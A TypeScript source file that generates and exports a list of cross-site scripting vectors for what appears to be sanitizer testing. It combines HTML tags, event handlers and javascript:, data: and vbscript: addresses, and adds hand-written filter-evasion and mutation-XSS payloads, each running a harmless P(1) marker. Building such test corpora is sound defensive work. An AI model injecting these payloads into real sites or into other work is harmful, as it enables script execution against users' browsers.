/** Where a script of a vector would leave its trace. */
const TRACE = 'P(1)'

const CARRIERS = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe src=about:blank', 'details open'],
  ...['marquee', 'input autofocus', 'select autofocus', 'textarea autofocus', 'object data=x', 'embed src=x'],
  ...['math', 'p style=animation:x', 'a tabindex=0', 'video><source'],
]
const HANDLERS = [
  ...['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'],
  ...['onpointerenter', 'oncopy', 'ONERROR'],
]
const ADDRESSES = [
  ...[`javascript:${TRACE}`, `JaVaScRiPt:${TRACE}`, `java\tscript:${TRACE}`, ` javascript:${TRACE}`],
  ...[`&#106;avascript:${TRACE}`, `javascript&colon;${TRACE}`, `\u0001javascript:${TRACE}`],
  ...[`data:text/html,<script>${TRACE}</script>`, `vbscript:${TRACE}`, `javascript://%0a${TRACE}`],
]
const LINKS = [
  ...['a href', 'img src', 'iframe src', 'form action', 'object data', 'embed src', 'svg><a xlink:href'],
  ...['math href', 'link rel=stylesheet href', 'base href', 'video poster', 'button formaction'],
]
const OTHERS = [
  `<script>${TRACE}</script>`,
  `<script src=data:,${TRACE}></script>`,
  `<ScRiPt >${TRACE}</sCrIpT>`,
  `<scr<script>ipt>${TRACE}</scr</script>ipt>`,
  `"><script>${TRACE}</script>`,
  `'><img src=x onerror=${TRACE}>`,
  `" onmouseover="${TRACE}" x="`,
  `</textarea><script>${TRACE}</script>`,
  `</title><script>${TRACE}</script>`,
  `</style><script>${TRACE}</script>`,
  `<!--><img src=x onerror=${TRACE}>-->`,
  `<![CDATA[<script>${TRACE}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${TRACE}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${TRACE}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${TRACE}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${TRACE}>`,
  `<template><img src=x onerror=${TRACE}></template>`,
  `<iframe srcdoc="<script>parent.${TRACE}</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${TRACE}">`,
  `<div style="background:url(javascript:${TRACE})">x</div>`,
  `<div style="width:expression(${TRACE})">x</div>`,
  `<style>@import 'javascript:${TRACE}';</style>`,
  `<xml:namespace prefix="t"><t:set onload=${TRACE}>`,
  `<svg><animate onbegin=${TRACE} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${TRACE}><a>x</a></svg>`,
  `{{constructor.constructor('${TRACE}')()}}`,
  `\${${TRACE}}`,
  `<%= ${TRACE} %>`,
  `\\u003cscript\\u003e${TRACE}\\u003c/script\\u003e`,
  `%3Cscript%3E${TRACE}%3C/script%3E`,
  `＜script＞${TRACE}＜/script＞`,
  `<a href="x" style="position:fixed;inset:0" onclick=${TRACE}>x</a>`,
]

/** Texts that would run where markup, an address or an attribute is made of them carelessly. */
export const SCRIPT_VECTORS: readonly string[] = [
  ...CARRIERS.flatMap((carrier) => HANDLERS.map((handler) => `<${carrier} ${handler}=${TRACE}>x`)),
  ...LINKS.flatMap((link) => ADDRESSES.map((address) => `<${link}="${address}">x`)),
  ...OTHERS,
]
